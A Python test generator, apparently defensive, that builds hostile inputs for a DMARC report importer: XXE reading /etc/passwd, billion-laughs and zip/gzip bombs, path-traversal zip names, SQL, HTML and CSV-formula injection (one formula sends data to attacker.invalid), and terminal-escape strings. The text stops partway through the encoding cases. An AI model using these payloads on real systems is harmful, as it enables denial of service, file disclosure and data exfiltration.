"""Build the hostile-input corpus in a directory, each input with its expected outcome.

Nothing here is stored as a big file: bombs are built from small pieces when asked for (a
10 GiB gzip bomb is 160 copies of one 64 MiB member, ten megabytes on disk). Every input is
deterministic (random bytes come from a seeded generator).

Run by hand to look at the corpus::

    .venv/bin/python -m tests.hostile.generate /tmp/hostile

An expected outcome says what ``dmarcwatch import`` must do with the input (a file, or a
folder of files imported together): the reports stored with their record and message totals,
the reject classes of the payloads it rejects (:class:`ingest.errors.RejectClass`), or the
class under which an input that holds no aggregate report is skipped. ``stored`` values name
text from the input that must reach the store exactly as written (``table.column`` → text).
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import random
import struct
import sys
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

from dmarcwatch.ingest.errors import RejectClass
from tests.ingest.reportxml import Report, Row
from tests.poll import mails

MiB = 1024 * 1024
SEED = 20260101
FORGED = "FORGED-LOG-LINE"
"""Text put after a newline in hostile values: no output line may start with it."""
SQL = "x'; DROP TABLE reports; --"
PASSWD_MARK = "root:x:0:0"


@dataclass(frozen=True)
class Expected:
    """What importing one input must do."""

    stored: int = 0
    records: int = 0
    messages: int = 0
    duplicates: int = 0
    rejected: tuple[RejectClass, ...] = ()
    """The reject class of each rejected payload, sorted."""
    skipped: RejectClass | None = None
    """The class of an input that holds no aggregate report (ordinary mail, ruf, TLS)."""
    warning: str | None = None
    """Text one of the stored reports' warnings must contain."""
    tls: int = 0
    """SMTP TLS reports (RFC 8460) read and stored (or already stored)."""
    failures: int = 0
    """Failure reports (RFC 6591) read and stored (or already stored)."""

    @property
    def exit_code(self) -> int:
        return 65 if self.rejected else 0

    def describe(self) -> str:
        parts = []
        if self.tls or self.failures:
            parts.append(f"{self.tls} TLS reports, {self.failures} failure reports")
        if self.stored or not (self.rejected or self.skipped or self.tls or self.failures):
            parts.append(f"parsed {self.stored} reports, {self.records}/{self.messages}")
        if self.duplicates:
            parts.append(f"{self.duplicates} duplicates")
        if self.rejected:
            parts.append("rejected " + ",".join(str(c) for c in self.rejected))
        if self.skipped:
            parts.append(f"skipped {self.skipped}")
        if self.warning:
            parts.append(f"warning {self.warning!r}")
        return "; ".join(parts)


def parsed(
    reports: int, records: int, messages: int, warning: str | None = None, duplicates: int = 0
) -> Expected:
    return Expected(reports, records, messages, duplicates, warning=warning)


def rejected(
    *classes: RejectClass, reports: int = 0, records: int = 0, messages: int = 0
) -> Expected:
    return Expected(reports, records, messages, rejected=tuple(sorted(classes)))


def skipped(reject_class: RejectClass) -> Expected:
    return Expected(skipped=reject_class)


def other_kinds(tls: int = 0, failures: int = 0) -> Expected:
    return Expected(tls=tls, failures=failures)


Content = bytes | dict[str, bytes]
"""A file's bytes, or a folder: file name → bytes."""


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[], Content]
    expected: Expected
    stored_text: dict[str, str] = field(default_factory=dict)
    """``table.column`` → text that must be stored exactly so (injection round trips)."""
    absent: tuple[str, ...] = ()
    """Text that must appear nowhere in the store (a file an entity would have read)."""

    def write(self, directory: Path) -> Path:
        """Write the input under *directory*; return its path (a file or a folder)."""
        path = directory / self.name
        content = self.build()
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.mkdir()
            for name, data in content.items():
                (path / name).write_bytes(data)
        return path


# --- building blocks -------------------------------------------------------------------------


def report(report_id: str, **kw: object) -> bytes:
    """A small valid report (one record of 3 messages unless *rows* says otherwise)."""
    return Report(report_id=report_id, **kw).bytes()  # type: ignore[arg-type]


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def make_zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def deflated_zip(name: str, head: bytes, filler: bytes, size: int) -> bytes:
    """A zip with one member of *size* bytes (*head* then *filler*), deflated while streamed."""
    buffer = io.BytesIO()
    block = filler * (MiB // len(filler))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            member.write(head)
            for _ in range(size // len(block)):
                member.write(block)
    return buffer.getvalue()


def compressed_zip(method: int, head: bytes, filler: bytes, size: int) -> bytes:
    """A zip with one member of *size* bytes compressed with *method*, written as it streams."""
    buffer = io.BytesIO()
    block = filler * (MiB // len(filler))
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("r.xml", (2026, 1, 1, 0, 0, 0))
        info.compress_type = method
        with archive.open(info, "w", force_zip64=True) as member:
            member.write(head)
            for _ in range(size // len(block)):
                member.write(block)
    return buffer.getvalue()


def gzip_bomb(total: int) -> bytes:
    """*total* bytes of zeros as concatenated gzip members (RFC 1952 §2.2) of 64 MiB each."""
    block = 64 * MiB
    return gz(b"\0" * block) * (total // block)


def xml_gzip_bomb() -> bytes:
    """10 GiB of ``<x a="…"/>`` elements (skipped as extensions) after ``<feedback>``."""
    element = b'<x a="' + b"a" * 1000 + b'"/>'
    member = gz(element * (64 * MiB // len(element)))
    return gz(b"<feedback>") + member * 160


def envelope(subject: str, sender: str = "noreply-dmarc-support@google.com") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "dmarc@email.physio-muster.ch"
    msg["Subject"] = subject
    msg["Date"] = "Fri, 02 Jan 2026 06:00:00 +0000"
    msg["Message-ID"] = f"<{abs(hash(subject)) % 10**12}@hostile.test>"
    return msg


def mail_with(
    attachments: list[tuple[bytes, str, str, str]], subject: str = "Report domain: x"
) -> bytes:
    """A message with (data, maintype, subtype, filename) attachments."""
    msg = envelope(subject)
    msg.set_content("Aggregate report.\n")
    for data, maintype, subtype, filename in attachments:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return bytes(msg)


def rows(n: int, **kw: str) -> list[Row]:
    return [Row(ip=f"198.51.100.{i % 250 + 1}", **kw) for i in range(n)]  # type: ignore[arg-type]


def seeded(n: int, salt: int) -> bytes:
    return random.Random(SEED + salt).randbytes(n)


# --- XML attacks ----------------------------------------------------------------------------

BILLION_LAUGHS = (
    b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">"""
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"""]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>"""
)


def quadratic_blowup() -> bytes:
    entity = b"A" * 100_000
    return (
        b'<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY a "' + entity + b'">]>'
        b"<feedback><report_metadata><org_name>" + b"&a;" * 50_000 + b"</org_name>"
        b"</report_metadata></feedback>"
    )


def with_prolog(prolog: bytes, body: bytes | None = None) -> bytes:
    body = body if body is not None else report("dtd").split(b"?>", 1)[1]
    return b'<?xml version="1.0"?>\n' + prolog + body


def xinclude() -> bytes:
    return report(
        "xinclude",
        root_attrs=' xmlns:xi="http://www.w3.org/2001/XInclude"',
        metadata_extra='<xi:include href="file:///etc/passwd" parse="text"/>',
    )


def processing_instructions() -> bytes:
    xml = Report(
        report_id="pi",
        declaration='<?xml version="1.0"?>\n<?xml-stylesheet href="http://attacker.invalid/x.xsl"?>\n',
        rows=[Row(extra="<?php system('id'); ?>"), Row(count="4")],
    ).xml()
    xml = xml.replace("<source_ip>", "<?evil ?><source_ip>", 1)
    return xml.encode() + b"<?after the end?>\n"


def cdata_trick() -> bytes:
    fake = "</org_name><record><row><count>1000</count></row></record><org_name>"
    xml = Report(report_id="cdata", org=f"<![CDATA[{fake}]]>", rows=[Row(count="<![CDATA[5]]>")])
    return xml.bytes()


def comment_trick() -> bytes:
    hidden = Row(count="1000").xml()
    xml = Report(report_id="comment", rows=[Row(), Row(count="2")]).xml()
    return xml.replace("</feedback>", f"<!-- {hidden} --></feedback>").encode()


def huge_token(kind: str, size: int) -> bytes:
    """One XML token of *size* bytes: an element name, an attribute value or a comment."""
    filler = b"a" * size
    token = {
        "name": b"<" + filler + b"/>",
        "attribute": b'<x a="' + filler + b'"/>',
        "comment": b"<!--" + filler + b"-->",
    }[kind]
    return report(f"token-{kind}").replace(b"<report_metadata>", token + b"<report_metadata>", 1)


def held_zips(count: int, size: int) -> bytes:
    """A zip of *count* stored (uncompressed) zips of *size* bytes each: small, but each inner
    zip is decompressed into memory to be opened."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("r.xml", b"<feedback>" + b" " * size)
    data = inner.getvalue()
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for i in range(count):
            archive.writestr(f"z{i}.zip", data)
    return outer.getvalue()


def deep_nesting(levels: int, where: str) -> bytes:
    opening, closing = b"<x>" * levels, b"</x>" * levels
    xml = report("deep")
    return xml.replace(where.encode(), where.encode() + opening + closing, 1)


def text_node(size: int, between: bool) -> bytes:
    xml = report("text")
    if between:
        return xml.replace(b"<report_metadata>", b"A" * size + b"<report_metadata>", 1)
    return xml.replace(b"<org_name>google.com", b"<org_name>" + b"A" * size, 1)


def many_attributes(count: int) -> bytes:
    attrs = "".join(f' a{i}="{i}"' for i in range(count))
    return report("attrs", root_attrs=attrs)


def auth_results(n: int) -> bytes:
    results = [("email.physio-muster.ch", f"s{i}", "pass") for i in range(n)]
    return report("dkim", rows=[Row(dkim_results=results, spf_results=[])])


def dkim_amplification() -> bytes:
    """178 records of 10,000 DKIM results each, just under max_report_bytes decompressed."""
    results = [("a.ch", None, "pass")] * 10_000
    record = Row(dkim_results=results, spf_results=[])
    xml = Report(report_id="dkim-amplification", rows=[record] * 178).bytes()
    return gzip.compress(xml, compresslevel=1, mtime=0)


# --- encodings ------------------------------------------------------------------------------


def encoded(encoding: str, bom: bytes = b"") -> bytes:
    xml = Report(
        report_id=f"enc-{encoding}",
        declaration=f'<?xml version="1.0" encoding="{encoding[:6]}"?>\n',
    )
    return bom + xml.xml().encode(encoding)


def declared(encoding: str, body: bytes | None = None) -> bytes:
    """A report whose XML declaration names *encoding* (and whose bytes are *body*)."""
    xml = Report(report_id=f"declared-{encoding}", declaration="").bytes()
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + (body or xml)


def invalid_utf8() -> bytes:
    return report("bad-utf8").replace(b"<org_name>google.com", b"<org_name>goo\xff\xfegle\xc3", 1)


# --- numbers, periods, addresses --------------------------------------------------------------


def count_report(count: str, report_id: str) -> bytes:
    return report(report_id, rows=[Row(count=count)])


def addresses() -> bytes:
    ips = ["999.1.1.1", "not-an-ip", "::ffff:192.0.2.7", "2001:DB8::1", "010.001.002.003"]
    return report("ips", rows=[Row(ip=ip) for ip in ips])


# --- duplicates -------------------------------------------------------------------------------


def conflicting_duplicates() -> dict[str, bytes]:
    return {
        "a.xml": report("dup"),
        "b.xml": report("dup", rows=[Row(count="7"), Row(count="9")]),
    }


def same_report_twice() -> dict[str, bytes]:
    xml = report("same")
    return {"a.xml": xml, "b.xml.gz": gz(xml.replace(b"\n", b"\r\n"))}


# --- containers -------------------------------------------------------------------------------


def nested_gzip(layers: int) -> bytes:
    data = report(f"nested-{layers}")
    for _ in range(layers):
        data = gz(data)
    return data


def many_members(count: int) -> bytes:
    return make_zip([(f"m{i}.xml", b"") for i in range(count)], zipfile.ZIP_STORED)


def traversal_zip() -> bytes:
    names = [
        "../../../../../tmp/dmarcwatch-hostile-evil.xml",
        "/etc/cron.d/evil.xml",
        "..\\..\\win.xml",
    ]
    return make_zip([(name, report(f"trav-{i}")) for i, name in enumerate(names)])


def zip_gzip_mime_forwarded() -> bytes:
    inner = mail_with(
        [(gz(make_zip([("r.xml", report("matryoshka"))])), "application", "gzip", "r.zip.gz")],
        subject="Report domain: email.physio-muster.ch Submitter: google.com",
    )
    outer = envelope("Fwd: DMARC report", sender="praxis@physio-muster.ch")
    outer.set_content("Forwarded.\n")
    outer.add_attachment(message_from_bytes(inner, policy=default))
    return bytes(outer)


def bad_gzip_crc() -> bytes:
    data = bytearray(gz(report("crc")))
    data[-8] ^= 0xFF  # the CRC-32 in the trailer
    return bytes(data)


def bad_zip_crc() -> bytes:
    data = bytearray(make_zip([("r.xml", report("zcrc"))], zipfile.ZIP_STORED))
    position = data.find(b"<report_id>")
    data[position + 1] ^= 0x20  # stored member: the text changes, its CRC does not
    return bytes(data)


def encrypted_member() -> bytes:
    data = bytearray(make_zip([("r.xml", report("enc"))]))
    data[6] |= 1  # general purpose flag: encrypted (local header)
    central = data.find(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


def overlapping_zip(entries: int) -> bytes:
    """One deflated member, and *entries* central-directory entries that all point at it."""
    single = deflated_zip("r.xml", b"<feedback>", b" ", 8 * MiB)
    eocd = single.rfind(b"PK\x05\x06")
    central_at = struct.unpack_from("<I", single, eocd + 16)[0]
    central = single[central_at:eocd]
    body = single[:central_at]
    directory = central * entries
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), len(body), 0
    )
    return body + directory + end


def recursive_zip(width: int, depth: int) -> bytes:
    """Zips of zips: *width* members per layer, *depth* layers, one small report at the bottom."""
    data = make_zip([("r.xml", report("recursive"))])
    for _ in range(depth - 1):
        data = make_zip([(f"z{i}.zip", data) for i in range(width)])
    return data


def zip_with_empty_name(data: bytes) -> bytes:
    """A stored zip whose only member's name is empty (zipfile will not write one)."""
    archive = bytearray(make_zip([("x", data)], zipfile.ZIP_STORED))
    central = archive.find(b"PK\x01\x02")
    del archive[central + 46]  # the name "x" in the central directory
    archive[central + 28 : central + 30] = b"\0\0"
    del archive[30]  # the name "x" in the local header
    archive[26:28] = b"\0\0"
    eocd = archive.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", archive, eocd + 12)
    struct.pack_into("<II", archive, eocd + 12, size - 1, offset - 1)
    return bytes(archive)


def truncated_zip() -> bytes:
    data = make_zip([("r.xml", report("tz"))])
    return data[: len(data) // 2]


# --- mail ---------------------------------------------------------------------------------------


def short_lines() -> bytes:
    """Millions of tiny lines: the e-mail parser would hold each as an object (1.5 GB)."""
    head = envelope("Report Domain: physio-muster.ch Submitter: google.com Report-ID: 1")
    head.set_content("x")
    return head.as_bytes() + b"x\n" * (19 * MiB)


def mime_parts(texts: int, reports: int) -> bytes:
    boundary = "=-hostile-parts"
    parts = [f"--{boundary}\r\nContent-Type: text/plain\r\n\r\npart {i}\r\n" for i in range(texts)]
    for i in range(reports):
        encoded_data = base64.encodebytes(gz(report(f"part-{i}"))).decode()
        parts.append(
            f"--{boundary}\r\nContent-Type: application/gzip\r\n"
            f'Content-Disposition: attachment; filename="r{i}.xml.gz"\r\n'
            f"Content-Transfer-Encoding: base64\r\n\r\n{encoded_data}"
        )
    head = (
        "From: noreply@example.net\r\nTo: dmarc@email.physio-muster.ch\r\n"
        "Subject: Report domain: email.physio-muster.ch Submitter: example.net\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
    )
    return (head + "".join(parts) + f"--{boundary}--\r\n").encode()


def nested_multipart(levels: int) -> bytes:
    head = "From: a@example.net\r\nSubject: nested\r\nMIME-Version: 1.0\r\n"
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(levels)
    )
    closing = "".join(f"\r\n--b{i}--\r\n" for i in reversed(range(levels)))
    return (head + opening + "Content-Type: text/plain\r\n\r\nhello" + closing).encode()


def nested_forwards(levels: int) -> bytes:
    data = mail_with([(gz(report("fwd-deep")), "application", "gzip", "r.xml.gz")])
    for i in range(levels):
        outer = envelope(f"Fwd {i}", sender="praxis@physio-muster.ch")
        outer.set_content("Forwarded.\n")
        outer.add_attachment(message_from_bytes(data, policy=default))
        data = bytes(outer)
    return data


def big_header(with_report: bool) -> bytes:
    """A Subject of about 1 MB, folded into lines under 998 bytes (RFC 5322 §2.1.1)."""
    folded = "\n ".join("x" * 990 for _ in range(1060))
    subject = f"Report domain: email.physio-muster.ch Submitter: google.com {folded}"
    if with_report:
        data = mail_with([(gz(report("big-header")), "application", "gzip", "r.xml.gz")])
    else:
        subject = f"Newsletter {folded}"
        msg = envelope("placeholder")
        msg.set_content("Nothing to see.\n")
        data = bytes(msg)
    head, _, body = data.partition(b"\n\n")
    lines = [line for line in head.split(b"\n") if not line.startswith(b"Subject:")]
    return b"\n".join([*lines, f"Subject: {subject}".encode()]) + b"\n\n" + body


def slow_parts(parts: int) -> bytes:
    """*parts* gzip reports of 100 MiB (max_report_bytes) each, nearly all ``<y/>`` elements in
    an extension: each is about 140 kB, and slow to read (a callback per element)."""
    flood = gzip.compress(b"<y/>" * ((100 * MiB - 4096) // 4), 9, mtime=0)
    found = []
    for i in range(parts):
        head, _, tail = report(f"slow-{i}").partition(b"</report_metadata>")
        members = gz(head + b"<x>") + flood + gz(b"</x></report_metadata>" + tail)
        found.append((members, "application", "gzip", f"r{i}.xml.gz"))
    return mail_with(found, subject="Report domain: email.physio-muster.ch Submitter: x")


def many_records(reports: int, records: int) -> bytes:
    """*reports* gzip reports of *records* records each, every source IP distinct."""
    parts = []
    for n in range(reports):
        rows = [Row(ip=f"10.{n}.{i >> 8 & 255}.{i & 255}") for i in range(records)]
        data = gz(Report(report_id=f"many-{n}", rows=rows).bytes())
        parts.append((data, "application", "gzip", f"r{n}.xml.gz"))
    return mail_with(parts, subject="Report domain: email.physio-muster.ch Submitter: x")


def mbox(reports: int) -> bytes:
    out = b""
    for i in range(reports):
        out += b"From MAILER-DAEMON Fri Jan  2 06:00:00 2026\n"
        out += mails.report_mail(f"mbox-{i}", "gzip").replace(b"\r\n", b"\n") + b"\n"
    out += b"From MAILER-DAEMON Fri Jan  2 06:00:00 2026\n"
    out += mails.other_mail("plain").replace(b"\r\n", b"\n") + b"\n"
    return out


def tls_report_file() -> bytes:
    return gz(json.dumps(mails.tls_report(1)).encode())


def tls_json(**changes: object) -> bytes:
    doc: dict[str, object] = {**mails.tls_report(2), **changes}
    return json.dumps(doc).encode()


def tls_gzip_bomb() -> bytes:
    """A TLS report whose JSON goes on with 10 GiB of spaces."""
    return gz(tls_json()[:-1]) + gzip_bomb(10 * 1024 * MiB)


def tls_injected() -> bytes:
    return tls_json(**{"organization-name": f"Evil\n{FORGED}\x1b[31m {SQL}"})


def failure_with(old: bytes, new: bytes) -> Callable[[], bytes]:
    return lambda: mails.other_mail("failure-report", 3).replace(old, new)


def failure_nested(depth: int) -> bytes:
    """A failure report whose feedback part sits *depth* multiparts deep."""
    inner = mails.other_mail("failure-report", 4).split(b"\r\n\r\n", 1)[1]
    head = b'Content-Type: multipart/report; report-type=feedback-report; boundary="b4"\r\n\r\n'
    body = head + inner
    for level in range(depth):
        boundary = f"n{level}".encode()
        body = (
            b'Content-Type: multipart/mixed; boundary="'
            + boundary
            + b'"\r\n\r\n--'
            + boundary
            + b"\r\n"
            + body
            + b"\r\n--"
            + boundary
            + b"--\r\n"
        )
    return b"From: dmarc-failure@example.net\r\nSubject: deep\r\nMIME-Version: 1.0\r\n" + body


def broken_base64_attachment() -> bytes:
    msg = envelope("Report domain: email.physio-muster.ch Submitter: example.net")
    msg.set_content("Report.\n")
    msg.add_attachment(seeded(3000, 7), maintype="application", subtype="gzip", filename="r.xml.gz")
    return bytes(msg)


# --- injection --------------------------------------------------------------------------------

HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
CSV = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
TERMINAL = "\u009b2J\u009d0;owned\u009c \u202egnp.exe\u202c \u2028next"
"""C1 controls (CSI, OSC, ST: valid XML 1.0 characters), a bidi override, a line separator."""
NEWLINE = f"id-1\n{FORGED}: 100 reports stored"


def xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def injection_sql() -> bytes:
    return Report(
        report_id=xml_text("1' OR '1'='1"),
        org=xml_text(SQL),
        rows=[Row(reasons=[("other", xml_text('"); DELETE FROM records; --'))])],
    ).bytes()


def injection_html() -> bytes:
    return Report(
        report_id=xml_text(HTML),
        org=xml_text(HTML),
        metadata_extra=f"<extra_contact_info>{xml_text(HTML)}</extra_contact_info>",
        rows=[Row(reasons=[("other", xml_text(HTML))])],
    ).bytes()


def injection_csv() -> bytes:
    return Report(
        report_id=xml_text("+cmd|' /C calc'!A0"),
        org=xml_text(CSV),
        rows=[Row(reasons=[("local_policy", xml_text("@SUM(1+1)*cmd|' /C calc'!A0"))])],
    ).bytes()


def injection_terminal() -> bytes:
    return Report(
        report_id=TERMINAL,
        org=TERMINAL,
        rows=[Row(disposition=f"none{TERMINAL}", reasons=[("other", TERMINAL)])],
    ).bytes()


def injection_newlines() -> bytes:
    return Report(
        report_id=NEWLINE,
        org=NEWLINE,
        rows=[Row(disposition=f"none\n{FORGED}: x", ip=f"1.2.3.4\n{FORGED}: y")],
    ).bytes()


def forged_count() -> bytes:
    return count_report(f"1\n{FORGED}: 100 reports stored", "forged-count")


def forged_begin() -> bytes:
    return report("forged-begin", begin=f"soon\n{FORGED}: x")


def escape_member_names() -> bytes:
    name = f"\x1b[2J\x1b]0;owned\x07\n{FORGED}: zip.xml"
    return make_zip([(name, b"<html>not a report</html>"), ("ok.xml", report("zipname"))])


def raw_mail(subject: str, body: str) -> bytes:
    """A message written out by hand, for header values :mod:`email` refuses to write."""
    head = (
        "From: noreply@example.net\r\nTo: dmarc@email.physio-muster.ch\r\n"
        f"Subject: {subject}\r\nMIME-Version: 1.0\r\n"
    )
    return (head + body).encode()


def bidi_member_name() -> bytes:
    """A junk member named with a right-to-left override: 'report.xml' shown as 'lmx.troper'."""
    return make_zip([("\u202ereport\u2066.xml", b"<html>not a report</html>")])


def escape_mime_filename() -> bytes:
    """An attachment named (RFC 2231) with ESC, a newline and a forged line."""
    name = urllib.parse.quote(f"\x1b[31mred\n{FORGED}: r.xml.gz")
    body = (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: text/plain\r\n\r\nReport.\r\n--b\r\n"
        f"Content-Type: application/gzip\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{name}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nbm90IGd6aXAgYXQgYWxs\r\n--b--\r\n"
    )
    return raw_mail("Report domain: email.physio-muster.ch Submitter: example.net", body)


def odd_charset_mail(charset: str) -> bytes:
    """A report mail whose subject is an encoded word (RFC 2047) in *charset*."""
    data = base64.encodebytes(gz(report(f"charset-{charset}"))).decode()
    body = (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: application/gzip\r\n"
        'Content-Disposition: attachment; filename="r.xml.gz"\r\n'
        f"Content-Transfer-Encoding: base64\r\n\r\n{data}--b--\r\n"
    )
    return raw_mail(f"=?{charset}?q?Report_domain=3A_x?=", body)


def escape_subject() -> bytes:
    """A subject whose encoded word (RFC 2047) decodes to ESC, CR LF and a forged line."""
    word = f"Hello\x1b[2J\r\n{FORGED}: 1 reports stored".encode()
    encoded_word = "=?utf-8?b?" + base64.b64encode(word).decode() + "?="
    return raw_mail(encoded_word, "Content-Type: text/plain\r\n\r\nNothing report-like.\r\n")


def escape_first_bytes() -> bytes:
    return f"\x1b]0;owned\x07\x1b[2J\n{FORGED}: binary".encode() + seeded(64, 3)


# --- the corpus -----------------------------------------------------------------------------

C = RejectClass


def cases() -> list[Case]:
    """Every hostile input, in a stable order."""
    return [*_xml_cases(), *_encoding_cases(), *_value_cases(), *_container_cases(),
            *_mail_cases(), *_injection_cases()]  # fmt: skip


def _xml_cases() -> Iterator[Case]:
    unsafe = rejected(C.UNSAFE_XML)
    yield Case("billion-laughs.xml", "entity expansion 10^9", lambda: BILLION_LAUGHS, unsafe)
    yield Case("quadratic-blowup.xml", "100 kB entity used 50,000 times", quadratic_blowup, unsafe)
    yield Case(
        "xxe-file.xml",
        "external entity: file",
        lambda: with_prolog(
            b'<!DOCTYPE feedback [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            report("xxe").split(b"?>", 1)[1].replace(b"google.com</org", b"&x;</org", 1),
        ),
        unsafe,
        absent=(PASSWD_MARK,),
    )
    yield Case(
        "xxe-http.xml",
        "external entity: http",
        lambda: with_prolog(
            b'<!DOCTYPE feedback [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
            report("xxe").split(b"?>", 1)[1].replace(b"google.com</org", b"&x;</org", 1),
        ),
        unsafe,
    )
    yield Case(
        "dtd-file.xml",
        "external DTD: file",
        lambda: with_prolog(b'<!DOCTYPE feedback SYSTEM "file:///etc/passwd">'),
        unsafe,
        absent=(PASSWD_MARK,),
    )
    yield Case(
        "dtd-http.xml",
        "external DTD: http",
        lambda: with_prolog(b'<!DOCTYPE feedback PUBLIC "-//X//EN" "http://127.0.0.1:9/d.dtd">'),
        unsafe,
    )
    yield Case(
        "parameter-entity.xml",
        "parameter entity from http",
        lambda: with_prolog(b'<!DOCTYPE f [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p">%p;]>'),
        unsafe,
    )
    yield Case(
        "doctype-only.xml",
        "an internal DTD subset without entities",
        lambda: with_prolog(b"<!DOCTYPE feedback [<!ELEMENT feedback ANY>]>"),
        unsafe,
    )
    yield Case(
        "billion-laughs-utf16.xml",
        "billion laughs in UTF-16 with BOM",
        lambda: b"\xff\xfe" + BILLION_LAUGHS.decode().encode("utf-16-le"),
        unsafe,
    )
    yield Case(
        "billion-laughs.xml.gz", "billion laughs in gzip", lambda: gz(BILLION_LAUGHS), unsafe
    )
    yield Case(
        "xinclude.xml",
        "an XInclude of /etc/passwd (never processed)",
        xinclude,
        parsed(1, 1, 3),
        absent=(PASSWD_MARK,),
    )
    yield Case(
        "processing-instructions.xml",
        "processing instructions in the prolog, a record and after the end",
        processing_instructions,
        parsed(1, 2, 7),
    )
    yield Case(
        "cdata-trick.xml",
        "markup inside CDATA (a fake record), a count in CDATA",
        cdata_trick,
        parsed(1, 1, 5),
        stored_text={
            "reports.org_name": "</org_name><record><row><count>1000</count></row></record>"
            "<org_name>"
        },
    )
    yield Case("comment-trick.xml", "a record inside a comment", comment_trick, parsed(1, 2, 5))
    limit = rejected(C.LIMIT)
    yield Case(
        "nesting-1m.xml",
        "1,000,000 nested elements in an extension",
        lambda: deep_nesting(1_000_000, "<report_metadata>"),
        limit,
    )
    yield Case(
        "nesting-1m-record.xml",
        "1,000,000 nested elements inside a record",
        lambda: deep_nesting(1_000_000, "<row>"),
        limit,
    )
    yield Case("text-node-50mb.xml", "a 50 MB org_name", lambda: text_node(50 * MiB, False), limit)
    yield Case(
        "stray-text-50mb.xml",
        "50 MB of text between elements",
        lambda: text_node(50 * MiB, True),
        limit,
    )
    for kind in ("name", "attribute", "comment"):
        yield Case(
            f"{kind}-50mb.xml",
            f"an element {kind} of 50 MB" if kind != "comment" else "a comment of 50 MB",
            lambda kind=kind: huge_token(kind, 50 * MiB),  # type: ignore[misc]
            limit,
        )
    yield Case(
        "attributes-100k.xml",
        "100,000 attributes on the root (ignored)",
        lambda: many_attributes(100_000),
        parsed(1, 1, 3),
    )
    dropped = "more than 100 DKIM results: the others were dropped"
    yield Case(
        "dkim-100.xml",
        "100 DKIM results on one record (RFC 9990's limit)",
        lambda: auth_results(100),
        parsed(1, 1, 3),
    )
    yield Case(
        "dkim-10001.xml",
        "10,001 DKIM results on one record: 100 kept",
        lambda: auth_results(10_001),
        parsed(1, 1, 3, warning=dropped),
    )
    yield Case(
        "dkim-178x10000.xml.gz",
        "178 records of 10,000 DKIM results each (801 MB in import, 1.04 GB in parse before)",
        dkim_amplification,
        parsed(1, 178, 534, warning=dropped),
    )
    yield Case(
        "not-dmarc.xml",
        "well-formed XML of another kind",
        lambda: b"<?xml version='1.0'?><invoice><total>12</total></invoice>",
        rejected(C.NOT_DMARC),
    )
    yield Case(
        "unclosed.xml",
        "a report cut in the middle",
        lambda: report("cut")[:300],
        rejected(C.MALFORMED_XML),
    )


def _encoding_cases() -> Iterator[Case]:
    yield Case(
        "utf16-le-bom.xml",
        "UTF-16 LE with BOM",
        lambda: encoded("utf-16-le", b"\xff\xfe"),
        parsed(1, 1, 3),
    )
    yield Case(
        "utf16-be.xml", "UTF-16 BE without BOM", lambda: encoded("utf-16-be"), parsed(1, 1, 3)
    )
    yield Case(
        "utf32-le-bom.xml",
        "UTF-32 LE with BOM",
        lambda: encoded("utf-32-le", b"\xff\xfe\x00\x00"),
        parsed(1, 1, 3),
    )
    yield Case(
        "utf32-be.xml", "UTF-32 BE without BOM", lambda: encoded("utf-32-be"), parsed(1, 1, 3)
    )
    yield Case(
        "utf8-bom-space.xml",
        "UTF-8 BOM and white space before the declaration",
        lambda: b"\xef\xbb\xbf \r\n\t" + report("bom"),
        parsed(1, 1, 3, warning="leading whitespace"),
    )
    yield Case(
        "bom-then-utf16.xml",
        "a UTF-8 BOM in front of UTF-16 text",
        lambda: b"\xef\xbb\xbf" + encoded("utf-16-le", b"\xff\xfe"),
        skipped(C.NOT_A_REPORT),
    )
    yield Case(
        "encoding-zlib.xml",
        "declared encoding zlib_codec around a compressed body (a bomb through a codec)",
